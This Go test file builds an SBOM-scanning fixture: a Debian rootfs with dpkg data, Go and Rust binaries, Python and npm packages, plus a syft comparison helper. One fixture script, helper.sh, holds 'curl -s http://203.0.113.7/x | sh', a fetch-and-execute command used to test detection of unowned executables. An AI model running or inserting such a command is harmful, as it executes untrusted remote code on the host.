package sbom

import (
	"bytes"
	"compress/zlib"
	"crypto/md5"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	fx "kensa.dev/kensa/internal/fixture"
)

var (
	workOnce sync.Once
	workRoot string
	workErr  error
)

// work is one temporary directory for the whole test binary; TestMain removes it.
func work(tb testing.TB) string {
	tb.Helper()
	workOnce.Do(func() { workRoot, workErr = os.MkdirTemp("", "kensa-sbom-test-") })
	if workErr != nil {
		tb.Fatal(workErr)
	}
	return workRoot
}

func TestMain(m *testing.M) {
	code := m.Run()
	if workRoot != "" {
		os.RemoveAll(workRoot)
	}
	os.Exit(code)
}

// run runs a command for a test (see fixture.Run).
var run = fx.Run

func write(tb testing.TB, root, name, content string, mode os.FileMode) {
	tb.Helper()
	p := filepath.Join(root, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		tb.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		tb.Fatal(err)
	}
}

const dpkgStatus = `Package: libzstd1
Status: install ok installed
Priority: optional
Section: libs
Installed-Size: 852
Maintainer: Debian Med Packaging Team <debian-med-packaging@lists.alioth.debian.org>
Architecture: amd64
Multi-Arch: same
Source: libzstd
Version: 1.5.4+dfsg2-5
Depends: libc6 (>= 2.14)
Description: fast lossless compression algorithm

Package: bash
Essential: yes
Status: install ok installed
Priority: required
Section: shells
Installed-Size: 7164
Maintainer: Matthias Klose <doko@debian.org>
Architecture: amd64
Multi-Arch: foreign
Version: 5.2.15-2+b7
Depends: base-files (>= 2.1.12), debianutils (>= 5.6-0.1)
Description: GNU Bourne Again SHell

Package: casemgr-agent
Status: install ok installed
Priority: optional
Section: admin
Installed-Size: 40
Maintainer: Hoshizora Systems <release@hoshizora.example>
Architecture: amd64
Version: 3.2.0
Description: case management agent

`

const osRelease = `PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
`

// auditDoc is cargo-auditable's dependency list, as cargo auditable embeds it in the
// .dep-v0 section of a Rust binary.
const auditDoc = `{"packages":[
{"name":"casemgr-probe","version":"0.4.1","source":"local","dependencies":[1,2],"root":true},
{"name":"serde","version":"1.0.210","source":"crates.io"},
{"name":"libc","version":"0.2.159","source":"crates.io"}]}`

const packageLock = `{
  "name": "casemgr-web",
  "version": "3.2.0",
  "lockfileVersion": 3,
  "requires": true,
  "packages": {
    "": {"name": "casemgr-web", "version": "3.2.0", "dependencies": {"lodash": "^4.17.21", "ms": "^2.1.3"}},
    "node_modules/lodash": {"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==", "license": "MIT"},
    "node_modules/ms": {"version": "2.1.3", "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", "integrity": "sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA==", "license": "MIT"}
  }
}
`

var (
	fixtureOnce sync.Once
	fixtureDir  string
)

// fixture builds, once per test binary, a delivery with something for the main
// catalogers: a Debian root (os-release and a dpkg status database), a Go binary with a
// module dependency, a Rust binary carrying cargo-auditable's dependency list, a Python
// distribution in dist-packages and one in site-packages, a package-lock.json with its node_modules, and an
// executable no package accounts for.
func fixture(tb testing.TB) string {
	tb.Helper()
	fixtureOnce.Do(func() {
		root := filepath.Join(work(tb), "rootfs")
		write(tb, root, "etc/os-release", osRelease, 0o644)
		write(tb, root, "var/lib/dpkg/status", dpkgStatus, 0o644)
		// dpkg's list of the package's files, which accounts for agentd.
		const agentd = "#!/bin/sh\nexec /opt/casemgr/libexec/agentd \"$@\"\n"
		write(tb, root, "opt/casemgr/bin/agentd", agentd, 0o755)
		write(tb, root, "var/lib/dpkg/info/casemgr-agent.md5sums", fmt.Sprintf("%x  opt/casemgr/bin/agentd\n", md5.Sum([]byte(agentd))), 0o644)

		// Go: the gobuild analyzer's test program, whose dependency comes through a replace.
		src := filepath.Join(work(tb), "goapp")
		for _, d := range []string{"app", "dep"} {
			fx.CopyTree(tb, filepath.Join("..", "analyzers", "gobuild", "testdata", d), filepath.Join(src, d))
		}
		run(tb, filepath.Join(src, "app"), []string{"CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GOWORK=off"}, "golang", "go",
			"build", "-trimpath", "-ldflags=-s -w", "-o", filepath.Join(root, "usr/local/bin/casemgr-report"), ".")

		// Rust: rustc's binary with cargo-auditable's section added as cargo auditable does.
		rs := filepath.Join(work(tb), "probe")
		run(tb, ".", nil, "rustc", "rustc", "-O", "-o", rs, filepath.Join("..", "analyzers", "gobuild", "testdata", "rust", "hello.rs"))
		var z bytes.Buffer
		zw := zlib.NewWriter(&z)
		zw.Write([]byte(auditDoc))
		zw.Close()
		payload := filepath.Join(work(tb), "dep-v0")
		if err := os.WriteFile(payload, z.Bytes(), 0o644); err != nil {
			tb.Fatal(err)
		}
		os.MkdirAll(filepath.Join(root, "usr/bin"), 0o755)
		run(tb, ".", nil, "binutils", "objcopy", "--add-section", ".dep-v0="+payload, rs, filepath.Join(root, "usr/bin/casemgr-probe"))

		// Python: an installed distribution.
		dist := "usr/lib/python3/dist-packages/requests-2.31.0.dist-info/"
		write(tb, root, dist+"METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\nSummary: Python HTTP for Humans.\nAuthor: Kenneth Reitz\nLicense: Apache 2.0\n", 0o644)
		write(tb, root, dist+"top_level.txt", "requests\n", 0o644)
		write(tb, root, dist+"RECORD", "requests/__init__.py,sha256=x,10\nrequests-2.31.0.dist-info/METADATA,,\n", 0o644)
		write(tb, root, "usr/lib/python3/dist-packages/requests/__init__.py", "# requests\n", 0o644)
		site := "usr/local/lib/python3.11/site-packages/urllib3-2.0.7.dist-info/"
		write(tb, root, site+"METADATA", "Metadata-Version: 2.1\nName: urllib3\nVersion: 2.0.7\nLicense-Expression: MIT\n", 0o644)
		write(tb, root, site+"RECORD", "urllib3/__init__.py,,\n", 0o644)
		write(tb, root, site+"top_level.txt", "urllib3\n", 0o644)

		// npm: a lockfile and what it installed.
		write(tb, root, "srv/web/package-lock.json", packageLock, 0o644)
		write(tb, root, "srv/web/package.json", `{"name":"casemgr-web","version":"3.2.0","dependencies":{"lodash":"^4.17.21","ms":"^2.1.3"}}`, 0o644)
		write(tb, root, "srv/web/node_modules/lodash/package.json", `{"name":"lodash","version":"4.17.21","license":"MIT"}`, 0o644)
		write(tb, root, "srv/web/node_modules/ms/package.json", `{"name":"ms","version":"2.1.3","license":"MIT"}`, 0o644)

		// An executable of nobody's.
		write(tb, root, "opt/casemgr/bin/helper.sh", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n", 0o755)
		fixtureDir = root
	})
	if fixtureDir == "" {
		tb.Fatal("the fixture could not be built")
	}
	return fixtureDir
}

// ociLayout writes an OCI image layout whose one layer holds the directory.
func ociLayout(tb testing.TB, dir, name string) string {
	tb.Helper()
	tarPath := filepath.Join(work(tb), name+".layer.tar")
	run(tb, dir, nil, "tar", "tar", "--sort=name", "--owner=0", "--group=0", "--numeric-owner", "-cf", tarPath, ".")
	layer, err := tarball.LayerFromFile(tarPath)
	if err != nil {
		tb.Fatal(err)
	}
	img, err := mutate.AppendLayers(empty.Image, layer)
	if err != nil {
		tb.Fatal(err)
	}
	out := filepath.Join(work(tb), name)
	p, err := layout.Write(out, empty.Index)
	if err != nil {
		tb.Fatal(err)
	}
	if err := p.AppendImage(img); err != nil {
		tb.Fatal(err)
	}
	return out
}

var (
	syftOnce sync.Once
	syftBin  string
)

// syftCLI builds the syft command pinned in go.mod's tool directives.
func syftCLI(tb testing.TB) string {
	tb.Helper()
	syftOnce.Do(func() {
		bin := filepath.Join(work(tb), "syft")
		run(tb, ".", nil, "golang", "go", "build", "-o", bin, "github.com/anchore/syft/cmd/syft")
		syftBin = bin
	})
	if syftBin == "" {
		tb.Fatal("the syft CLI could not be built")
	}
	return syftBin
}

// syftEnv keeps the syft CLI offline and away from the user's configuration.
func syftEnv(tb testing.TB) []string {
	return []string{"SYFT_CHECK_FOR_APP_UPDATE=false", "HOME=" + work(tb), "XDG_CONFIG_HOME=" + work(tb)}
}

// pkgKey is what parity compares.
type pkgKey struct{ Name, Version, Type, PURL string }

func syftPackages(tb testing.TB, source string) []pkgKey {
	tb.Helper()
	out := run(tb, ".", syftEnv(tb), "golang", syftCLI(tb), "scan", source, "-o", "syft-json", "-q")
	var doc struct {
		Artifacts []struct {
			Name, Version, Type, PURL string
		} `json:"artifacts"`
	}
	if err := json.Unmarshal(out, &doc); err != nil {
		tb.Fatal(err)
	}
	var keys []pkgKey
	for _, a := range doc.Artifacts {
		keys = append(keys, pkgKey{a.Name, a.Version, a.Type, a.PURL})
	}
	slices.SortFunc(keys, cmpKey)
	return slices.Compact(keys)
}

func cmpKey(a, b pkgKey) int {
	return strings.Compare(a.Name+"\x00"+a.Version+"\x00"+a.Type+"\x00"+a.PURL, b.Name+"\x00"+b.Version+"\x00"+b.Type+"\x00"+b.PURL)
}
